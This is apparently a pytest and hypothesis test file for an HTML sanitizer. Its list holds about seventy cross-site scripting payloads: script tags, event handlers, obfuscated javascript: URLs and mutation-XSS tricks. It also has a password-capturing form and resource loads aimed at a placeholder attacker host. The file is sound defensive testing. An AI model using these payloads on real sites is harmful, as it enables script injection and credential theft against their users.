"""What attackers put into rich text; nothing dangerous may be left of it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.core.richtext import clean_html
from tests.core.markup import dangers

SCRIPT = "alert(1)"
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xau.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>bấm</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//xau.example/x.swf'>",
    "<applet code='X'></applet>",
    "<a href='javascript:alert(1)'>bấm</a>",
    "<a href='JaVaScRiPt:alert(1)'>bấm</a>",
    "<a href='java\tscript:alert(1)'>bấm</a>",
    "<a href='java&#10;script:alert(1)'>bấm</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>bấm</a>",
    "<a href='java&shy;script:alert(1)'>bấm</a>",
    "<a href='java\u200bscript:alert(1)'>bấm</a>",
    "<a href='&#1;javascript:alert(1)'>bấm</a>",
    "<a href=' \u00a0javascript:alert(1)'>bấm</a>",
    "<a href='vbscript:msgbox(1)'>bấm</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>bấm</a>",
    "<a href='https://xau.example' style='display:none' onmouseover=alert(1)>ẩn</a>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='&#97;lert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img srcset='//xau.example/a.png 1x' src='/media/a.webp'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<form action='//xau.example'><input name=mat_khau><button>Gửi</button></form>",
    "<p><button formaction='javascript:alert(1)'>Gửi</button></p>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>một</option></select>",
    "<details open ontoggle=alert(1)><summary>xem</summary></details>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='//xau.example/'>",
    "<link rel=stylesheet href='//xau.example/a.css'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<p style='position:fixed;inset:0' class='masthead' id='noi-dung'>che cả trang</p>",
    "<section class='facts masthead' onclick=alert(1)>số liệu</section>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<p>\u0338 onclick=alert(1)>chữ</p>",
    "<p>&#x338; onclick=alert(1)&gt;chữ</p>",
    "<b <script>alert(1)</script>>chữ</b>",
    "<table><td background='javascript:alert(1)'>ô</td></table>",
    "<custom-element onclick=alert(1)>chữ</custom-element>",
    "<a href='https://a.example' target=_blank ping='//xau.example'>đi</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_dangerous_is_left(payload: str):
    for markup in (payload, f"<p>trước {payload} sau</p>", f"<table><tr><td>{payload}"):
        assert dangers(clean_html(markup)) == []


@pytest.mark.parametrize("payload", HOSTILE)
def test_what_is_cleaned_stays_as_it_is(payload: str):
    cleaned = str(clean_html(payload))
    assert clean_html(cleaned) == cleaned


pieces = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(
        [
            *("<p>", "</p>", "<b>", "</b>", "<em>", "</em>", "<span>", "</span>", "<br>", "<div>"),
            *("<span class=credit>", "<table>", "<tr>", "<td>", "</table>", "<li>", "</ul>"),
            *("<a href='/tin/'>", "</a>", "<h1>", "</h1>", "<svg>", "<math>", "<style>", "<!--"),
            *("<img src=/media/a.webp>", "<img alt='a > b'>", "<", ">", "&", "&nbsp;", "&shy;"),
            *("&#x301;", "&#x338;", "&#8203;", "&lt;", "&amp;", '"', "'", "\u00a0", "\u0338"),
        ]
    ),
    st.sampled_from(["Một", " hai ", "ba\n", "o\u0301", "\u200b", "Đường", "😀"]),
)
markups = st.lists(pieces, max_size=14).map("".join)


@given(markups)
def test_no_mixture_leaves_anything_dangerous(markup: str):
    assert dangers(clean_html(markup)) == []


@given(markups)
def test_cleaning_twice_is_cleaning_once(markup: str):
    cleaned = str(clean_html(markup))
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    "address",
    [
        "https://xau.example/a.png",
        "//xau.example/a.png",
        "\\\\xau.example\\a.png",
        "/\\xau.example/a.png",
        "/\t/xau.example/a.png",
        "&#32;//xau.example/a.png",
        "//[",
        "data:image/png;base64,iVBORw0KGgo=",
        "blob:https://minhgiang.example/1",
    ],
)
def test_a_picture_from_elsewhere_leaves_its_words_and_nothing_else(address: str):
    assert clean_html(f'<p>chữ <img src="{address}" alt="ảnh"></p>') == "<p>chữ ảnh </p>"
    assert clean_html(f'<p>chữ <img src="{address}"></p>') == "<p>chữ </p>"


def test_a_picture_without_an_address_is_dropped_whatever_it_says():
    assert clean_html("<p>chữ<img alt='src=/media/a.webp > b'></p>") == "<p>chữ</p>"
    assert clean_html("<p>chữ<img src='' alt='ảnh'></p>") == "<p>chữ</p>"
    assert clean_html("<p>chữ<img src='javascript:alert(1)' alt='ảnh'></p>") == "<p>chữ</p>"
